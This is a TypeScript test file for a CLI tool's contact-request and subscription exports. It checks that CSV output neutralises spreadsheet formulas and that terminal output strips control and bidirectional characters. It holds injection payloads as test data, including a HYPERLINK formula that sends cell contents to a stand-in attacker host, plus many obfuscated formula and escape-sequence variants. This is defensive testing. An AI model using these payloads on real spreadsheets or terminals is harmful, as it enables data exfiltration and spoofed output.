import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import path from "node:path";
import { test } from "node:test";
import Sqlite from "better-sqlite3";
import { csvCells } from "../app/results/read-csv.ts";
import { column, columns } from "./support/columns.ts";
import { runCommandsHere } from "./support/commands-here.ts";
import { parseCsv } from "./support/csv.ts";
import { contactTyped, postJson, postMultipart, rubricForm } from "./support/forms.ts";
import { succeeded } from "./support/output-of.ts";
import { addRequests } from "./support/requests.ts";
import {
  emptyServer,
  executable,
  newFolder,
  query,
  runCommand,
  setUpOnce,
} from "./support/server.ts";
import { contact, sha256, threeFiles, uploaded } from "./support/upload.ts";

runCommandsHere();

/** Texts that break a careless CSV export, or run as formulas in a spreadsheet. */
const nasty = {
  name: '=HYPERLINK("http://example.org","open")',
  phone: "+27 31 555 0100",
  institution: "  @SUM(A1)",
  message: 'Two lines,\nwith “quotes”, "plain ones" and \u009b31m; é, 字',
};

/** A server with a request of each form. */
const serverWithRequests = setUpOnce(async (server) => {
  const files = threeFiles();
  const reference = await uploaded(server, files, { ...contact, ...nasty });
  // Requests of earlier versions may have control characters.
  const db = new Sqlite(server.databaseFile);
  db.prepare("UPDATE contact_requests SET message = ?").run(nasty.message);
  db.close();
  assert.equal((await postJson(server.url, "/api/contact", contactTyped)).status, 201);
  assert.equal((await postMultipart(server.url, "/latest-feature", rubricForm())).status, 303);
  const run = (...args: string[]) => runCommand(server.folder, args);
  return { server, files, reference, run };
});

test("requests are listed, shown and exported as JSON with their exact values", async () => {
  const { files, reference, run } = await serverWithRequests();
  const list = JSON.parse((await run("requests", "list", "--json")).out);
  assert.deepEqual(column(list, "form"), ["rubric-request", "contact", "demo-upload"]);
  const request = JSON.parse((await run("requests", "show", reference, "--json")).out);
  for (const [field, text] of Object.entries({ ...nasty, institution: "@SUM(A1)" })) {
    assert.equal(request[field], text);
  }
  assert.deepEqual(
    request.files.map((file: { sha256: string }) => file.sha256),
    files.map(({ bytes }) => sha256(bytes)),
  );
  assert.deepEqual(column(request.emails, "status"), ["pending"]);
  const exported = JSON.parse((await run("requests", "export", "--format", "json")).out);
  assert.equal(exported.length, 3);
  assert.deepEqual(exported[2], request);
});

test("each export is recorded in the audit", async () => {
  const { server, reference, run } = await serverWithRequests();
  await succeeded(run("requests", "export", "--format", "json"));
  await succeeded(run("requests", "files", reference, "--out", "files"));
  await succeeded(run("subject", "export", contact.email, "--out", "person"));
  assert.deepEqual(query(server.databaseFile, "SELECT action, reference FROM audit ORDER BY id"), [
    { action: "requests exported", reference: null },
    { action: "files exported", reference },
    { action: "subject exported", reference: null },
  ]);
});

test("a CSV export has the exact values, except that formulas are texts", async () => {
  const { reference, run } = await serverWithRequests();
  const { out } = await succeeded(run("requests", "export", "--format", "csv"));
  const rows = parseCsv(out);
  assert.equal(rows.length, 3);
  const { receivedAt, ...row } = rows.find((one) => one.reference === reference)!;
  assert.match(receivedAt!, /^\d{4}-\d\d-\d\dT/);
  assert.deepEqual(row, {
    reference,
    form: "demo-upload",
    requestType: "demo",
    name: `'${nasty.name}`,
    email: contact.email,
    phone: "'+27 31 555 0100",
    institution: "'@SUM(A1)",
    message: nasty.message,
    files: "3",
    spam: "",
    isTest: "false",
    confirmedAt: "",
    noticeVersion: "",
  });
  for (const one of rows.flatMap((cells) => Object.values(cells))) {
    assert.doesNotMatch(one, /^\s*[=+\-@]|^[\t\r]/);
  }
});

/** A server with a subscription and a test, and a function that runs a command on subscriptions. */
const serverWithSubscriptions = setUpOnce(async (server) => {
  const run = (...args: string[]) => runCommand(server.folder, ["subscriptions", ...args]);
  const email = "Thandi@school.example";
  assert.equal((await postJson(server.url, "/api/subscription", { email })).status, 201);
  const other = { email: "test@school.example" };
  assert.equal((await postJson(server.url, "/api/subscription?test", other)).status, 201);
  return { run, email };
});

test("subscriptions are exported without tests", async () => {
  const { run } = await serverWithSubscriptions();
  const list = JSON.parse((await run("list", "--json")).out);
  assert.deepEqual(columns(list, "email", "isTest"), [
    ["test@school.example", true],
    ["thandi@school.example", false],
  ]);
  const rows = parseCsv((await run("export", "--format", "csv")).out);
  assert.deepEqual(columns(rows, "email", "consentedAt"), [
    ["thandi@school.example", list[1].createdAt],
  ]);
  assert.equal(JSON.parse((await run("export", "--format", "json")).out).length, 1);
});

test("a subscription is removed only with --yes", async () => {
  const { run, email } = await serverWithSubscriptions();
  const asked = await run("remove", email);
  assert.equal(asked.code, 2);
  assert.match(asked.err, /add --yes/);
  await succeeded(run("remove", email, "--yes"));
  assert.equal((await run("remove", email, "--yes")).code, 1);
  assert.equal(JSON.parse((await run("list", "--json")).out).length, 1);
});

test("an export without a format, or with an unknown one, is a usage error", async (t) => {
  const folder = newFolder(t);
  for (const args of [["export"], ["export", "--format", "xlsx"]]) {
    const { code, err } = await runCommand(folder, ["requests", ...args]);
    assert.equal(code, 2, `${args}`);
    assert.match(err, /^rubricon: [^\n]*--format/);
  }
});

/** Texts that become formulas where a program splits the file by semicolons or tabs. */
const hiddenFormulas = [
  "x;=1+1;y",
  "x\t=1+1\ty",
  'Hello\n=HYPERLINK("http://evil.example/?"&A1,"click");2',
  "Hello\r@SUM(A1)",
  "Hello\u2028-1+1",
  "\0=1+1",
  "x;\0=1+1",
  'x;"=1+1',
  'x;""" \u200b=1+1',
  'x\n";"=1+1";',
  "x; ＝1+1",
  '";=1+1;"',
  "x;\u3164+1",
];

test("a CSV export has no formula, whether it is split by commas, semicolons or tabs", async () => {
  const server = await emptyServer();
  addRequests(server.databaseFile, hiddenFormulas.length);
  const db = new Sqlite(server.databaseFile);
  const change = db.prepare(
    "UPDATE contact_requests SET name = ?, institution = ?, message = ? WHERE id = ?",
  );
  for (const [index, text] of hiddenFormulas.entries()) change.run(text, text, text, index + 1);
  db.close();
  const { out } = await runCommand(server.folder, ["requests", "export", "--format", "csv"]);
  const formula = /^[\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠]/u;
  for (const separator of [",", ";", "\t"]) {
    // As programs read it that split at this sign: quotes count only at the start of a cell.
    const cells = csvCells(out, separator).flatMap((row) => row.map(({ text }) => text));
    assert.ok(cells.length > hiddenFormulas.length, separator);
    assert.deepEqual(
      cells.filter((cell) => formula.test(cell)),
      [],
      JSON.stringify(separator),
    );
  }
  assert.doesNotMatch(out, /\0/);
  const rows = parseCsv(out);
  assert.equal(rows.length, hiddenFormulas.length);
  assert.ok(rows.some(({ name }) => name === "x;'=1+1;y"));
});

/** Many, and one more than a multiple of the 50 that an export reads at a time. */
const requestCount = 251;

test("requests are exported in parts: each once, newest first", async () => {
  const server = await emptyServer();
  addRequests(server.databaseFile, requestCount);
  const run = (...args: string[]) => runCommand(server.folder, args);
  const exported = JSON.parse((await run("requests", "export", "--format", "json")).out);
  const rows = parseCsv((await run("requests", "export", "--format", "csv")).out);
  const expected = Array.from(
    { length: requestCount },
    (_, index) => `Message ${requestCount - index}`,
  );
  for (const requests of [exported, rows] as { message: string }[][]) {
    assert.deepEqual(column(requests, "message"), expected);
  }
  for (const { reference, emails, files } of exported) {
    assert.deepEqual([emails.length, files], [1, []], reference);
  }
});

test("a person's export has all of hundreds of requests with their emails", async () => {
  const server = await emptyServer();
  addRequests(server.databaseFile, requestCount);
  const args = ["subject", "export", "reader@school.example", "--out", "hundreds"];
  await succeeded(runCommand(server.folder, args));
  const document = JSON.parse(
    readFileSync(path.join(server.folder, "hundreds/subject.json"), "utf8"),
  );
  assert.equal(document.contact_requests.length, requestCount);
  assert.equal(new Set(column(document.outbox, "reference")).size, requestCount);
});

test("on a terminal no request is printed with a control character or a bidirectional override", async (t) => {
  if (spawnSync("script", ["--version"]).error) {
    t.skip("script, which provides a terminal, is not installed");
    return;
  }
  const server = await emptyServer();
  addRequests(server.databaseFile, 1);
  const db = new Sqlite(server.databaseFile);
  const hidden = "a\u001b[31mb\u009bc\u202ed\u2066e\rf";
  db.prepare("UPDATE contact_requests SET name = ?, message = ?").run(hidden, hidden);
  db.close();
  const onTerminal = (command: string) =>
    spawnSync("script", ["-qec", `${executable} ${command}`, "/dev/null"], {
      cwd: server.folder,
      encoding: "utf8",
      timeout: 20_000,
    }).stdout;
  for (const command of [
    "export --format csv",
    "export --format json",
    "list",
    "show AAAA-AAAA-2222",
    "show AAAA-AAAA-2222 --json",
  ]) {
    const out = onTerminal(`requests ${command}`);
    assert.match(out, /a(�|\\u001b)\[31mb(�|\\u009b)c(�|\\u202e)d(�|\\u2066)e/, command);
    assert.doesNotMatch(out.replaceAll("\r\n", ""), /[\p{Cc}\p{Bidi_Control}]/u, command);
  }
  const piped = await runCommand(server.folder, ["requests", "export", "--format", "csv"]);
  assert.ok(piped.out.includes(hidden), "a file has the exact text");
});
